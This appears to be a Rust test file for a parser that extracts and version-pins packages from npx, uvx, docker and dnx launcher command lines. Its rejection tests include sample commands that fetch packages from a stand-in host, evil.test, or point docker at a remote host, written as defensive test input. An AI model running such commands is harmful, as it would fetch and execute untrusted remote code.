//! Tests of the package in a command line, and of the command line that runs a pinned version.

use super::*;
use crate::packages::PackageVersion;

fn split_words(line: &str) -> Vec<String> {
    line.split_whitespace().map(str::to_owned).collect()
}

fn parse_command_line(line: &str) -> Option<LauncherPackage> {
    let words = split_words(line);
    launched_package(&words[0], &words[1..])
}

/// Parses a command line. Returns the package's name, the requested version, and the command line in which `argument`
/// replaces the argument that names the package.
fn parse_and_pin_command_line(line: &str, argument: &str) -> (String, String, String) {
    let Some(LauncherPackage::Package(reference)) = parse_command_line(line) else {
        panic!("{line}: {:?}", parse_command_line(line))
    };
    let version = PackageVersion {
        name: reference.name.clone(),
        version: "1.2.3".into(),
        integrity: None,
        source: None,
        argument: argument.into(),
    };
    let args = reference.pinned_args(&split_words(line)[1..], &version);
    (reference.name, reference.requested_version, args.join(" "))
}

fn unknown_package_cause(line: &str) -> UnknownPackage {
    match parse_command_line(line) {
        Some(LauncherPackage::Unknown(_, cause)) => cause,
        other => panic!("{line}: {other:?}"),
    }
}

#[test]
fn packages_are_found_in_launcher_command_lines() {
    for (line, argument, name, expected, result) in [
        (
            "npx -y @scope/server --verbose",
            "@scope/server@1.2.3",
            "@scope/server",
            "",
            "-y @scope/server@1.2.3 --verbose",
        ),
        (
            "/usr/bin/npx @scope/server@latest /tmp",
            "@scope/server@1.2.3",
            "@scope/server",
            "latest",
            "@scope/server@1.2.3 /tmp",
        ),
        ("npx.cmd --yes server@^1.0", "server@1.2.3", "server", "^1.0", "--yes server@1.2.3"),
        ("npx -y --package=server run", "server@1.2.3", "server", "", "-y --package=server@1.2.3 run"),
        ("npx -p server -- run -x", "server@1.2.3", "server", "", "-p server@1.2.3 -- run -x"),
        ("npm exec -y server -- --port 1", "server@1.2.3", "server", "", "exec -y server@1.2.3 -- --port 1"),
        (
            "uvx mcp-server-git --repository /x",
            "mcp-server-git@1.2.3",
            "mcp-server-git",
            "",
            "mcp-server-git@1.2.3 --repository /x",
        ),
        ("uvx mcp-server-git@latest", "mcp-server-git@1.2.3", "mcp-server-git", "", "mcp-server-git@1.2.3"),
        ("uvx --from mcp[cli]>=1 mcp run", "mcp[cli]==1.2.3", "mcp", ">=1", "--from mcp[cli]==1.2.3 mcp run"),
        ("uv tool run --from=mcp mcp", "mcp==1.2.3", "mcp", "", "tool run --from=mcp==1.2.3 mcp"),
        (
            "docker run -i --rm -e KEY mcp/fetch --x",
            "mcp/fetch@sha256:0",
            "mcp/fetch",
            "",
            "run -i --rm -e KEY mcp/fetch@sha256:0 --x",
        ),
        (
            "docker run -it -p8080:80 host:5000/a:tag",
            "host:5000/a@sha256:0",
            "host:5000/a",
            "tag",
            "run -it -p8080:80 host:5000/a@sha256:0",
        ),
        ("podman container run --name=x a", "a@sha256:0", "a", "", "container run --name=x a@sha256:0"),
        (
            "dnx Contoso.Mcp@1.0.0 --yes -- --x",
            "Contoso.Mcp@1.2.3",
            "Contoso.Mcp",
            "1.0.0",
            "Contoso.Mcp@1.2.3 --yes -- --x",
        ),
    ] {
        assert_eq!(parse_and_pin_command_line(line, argument), (name.into(), expected.into(), result.into()), "{line}");
    }
}

#[test]
fn unknown_package_has_a_cause() {
    let option = |name: &str| UnknownPackage::Option(name.into());
    let specifier = |text: &str| UnknownPackage::Specifier(text.into());
    for (line, expected) in [
        ("npx -y -c x", UnknownPackage::ShellLine),
        ("npx --call=x", UnknownPackage::ShellLine),
        ("npx -p one -p two run", UnknownPackage::Several),
        ("npx --prefix /tmp server", option("--prefix")),
        ("npx github:user/repo", specifier("github:user/repo")),
        ("npx user/repo", specifier("user/repo")),
        ("npx ./folder", specifier("./folder")),
        ("npx https://evil.test/x.tgz", specifier("https://evil.test/x.tgz")),
        ("npx a@npm:b@1", specifier("a@npm:b@1")),
        ("npx a@https://evil.test/x", specifier("a@https://evil.test/x")),
        ("npx x.tgz", specifier("x.tgz")),
        ("npx -y", UnknownPackage::NoPackage),
        ("npm exec server --package=evil", option("--package")),
        ("uvx --from git+https://evil.test/x x", specifier("git+https://evil.test/x")),
        ("uvx --from ./x x", specifier("./x")),
        ("uvx x.whl", specifier("x.whl")),
        ("uvx python", specifier("python")),
        ("uvx -c constraints.txt x", option("-c")),
        ("docker --host tcp://evil.test run x", option("--host")),
        ("docker run --unheard-of x y", option("--unheard-of")),
        ("docker run $IMAGE", specifier("$IMAGE")),
        ("dnx Server --source http://evil.test", option("--source")),
        ("bunx server", UnknownPackage::Launcher("bunx".into())),
        ("pnpm dlx server", UnknownPackage::Launcher("pnpm dlx".into())),
        ("cmd /c npx -y server", UnknownPackage::Wrapped("cmd".into())),
    ] {
        assert_eq!(unknown_package_cause(line), expected, "{line}");
    }
}

#[test]
fn program_that_is_no_launcher_has_no_package() {
    for line in
        ["node server.js", "docker compose up", "npm start", "uv run server.py", "pnpm start", "sh -c ls", "npxx a"]
    {
        assert_eq!(parse_command_line(line), None, "{line}");
    }
}
